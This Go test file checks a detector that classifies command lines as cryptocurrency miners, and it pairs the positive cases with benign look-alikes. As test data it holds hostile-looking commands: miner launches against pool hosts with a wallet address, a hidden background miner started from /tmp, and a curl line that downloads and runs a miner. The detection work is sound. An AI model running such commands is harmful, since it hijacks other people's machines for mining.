package cmdline

import "testing"

const wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

func TestMiner(t *testing.T) {
	m := []Class{Miner}
	runCases(t, []tc{
		{name: "xmrig", argv: []string{"xmrig", "-o", "pool.example.com:80"}, want: m, detail: "xmrig is a cryptocurrency miner"},
		{name: "xmrig by path", argv: []string{"/tmp/xmrig-6.21.0/xmrig", "--config=/tmp/c.json"}, want: m},
		{name: "xmr-stak", argv: []string{"./xmr-stak", "--noTest"}, want: m},
		{name: "minerd", argv: []string{"minerd", "-a", "cryptonight", "-o", "stratum+tcp://1.2.3.4:3333"}, want: m},
		{name: "cpuminer", argv: []string{"cpuminer-opt", "-a", "yespower"}, want: m},
		{name: "t-rex", argv: []string{"t-rex", "-a", "ethash", "-o", "x"}, want: m},
		{name: "nbminer uppercase", argv: []string{"/opt/NBMiner"}, want: m},
		{name: "kinsing", argv: []string{"/tmp/kdevtmpfsi"}, want: m},
		{name: "renamed with pool port", argv: []string{"/usr/local/bin/kworker", "--url=45.9.148.3:14444", "-k"}, want: m, detail: "14444"},
		{name: "renamed -o pool port", argv: []string{"./systemd-helper", "-o", "1.2.3.4:3333", "-p", "x"}, want: m},
		{name: "renamed with wallet", argv: []string{"./x", "-o", "1.2.3.4:80", "-u", wallet + ".w1"}, want: m, detail: "wallet"},
		{name: "donate level", argv: []string{"./a", "--donate-level=1"}, want: m},
		{name: "donate level separate", argv: []string{"./a", "--donate-level", "1", "--cpu-max-threads-hint=50"}, want: m},
		{name: "stratum url", argv: []string{"/app/svc", "stratum+tcp://1.2.3.4:80"}, want: m},
		{name: "stratum ssl", argv: []string{"/app/svc", "-o", "stratum+ssl://x.example.com:443"}, want: m},
		{name: "pool domain", argv: []string{"./x", "-o", "gulf.moneroocean.stream:10128"}, want: m},
		{name: "pool domain in url", argv: []string{"./x", "--url", "xmr-eu1.nanopool.org:14433"}, want: m},
		{name: "wallet alone", argv: []string{"./x", wallet}, want: m},
		{name: "download of xmrig", script: "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz", want: m},
		{name: "in a script", script: "cd /tmp && ./.x -o pool.supportxmr.com:3333 -u " + wallet + " -k --tls &", want: m},
		{name: "via variable", script: "P=pool.minexmr.com:4444; /tmp/k -o $P", want: m},
		{name: "miner downloaded and run", script: "curl -so /tmp/xmrig http://x/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig", want: []Class{Miner, DownloadExecute}},

		// Benign look-alikes.
		{name: "curl output", argv: []string{"curl", "-o", "/tmp/out.json", "http://svc:3333/api"}},
		{name: "curl -o host:port", argv: []string{"curl", "-o", "x:3333", "http://svc/api"}},
		{name: "kubectl output", argv: []string{"kubectl", "get", "pods", "-o", "yaml"}},
		{name: "ssh option", argv: []string{"ssh", "-o", "StrictHostKeyChecking=no", "-p", "4444", "user@host"}},
		{name: "redis port", argv: []string{"redis-server", "--port", "7777"}},
		{name: "local pool port", argv: []string{"./app", "-o", "localhost:3333"}},
		{name: "url with a path", argv: []string{"./app", "--url", "http://svc:5555/api"}},
		{name: "service on 3333", argv: []string{"/app/server", "--listen=:3333"}},
		{name: "grafana", argv: []string{"/run.sh", "--config=/etc/grafana/grafana.ini"}},
		{name: "data miner app", argv: []string{"/app/dataminer", "--input", "/data"}},
		{name: "miner exporter", argv: []string{"/bin/miner-exporter", "--web.listen-address=:9100"}},
		{name: "ethereum node", argv: []string{"geth", "--http", "--http.addr", "0.0.0.0"}},
		{name: "short random base58", argv: []string{"./x", "--id", "4AbC"}},
	})
}
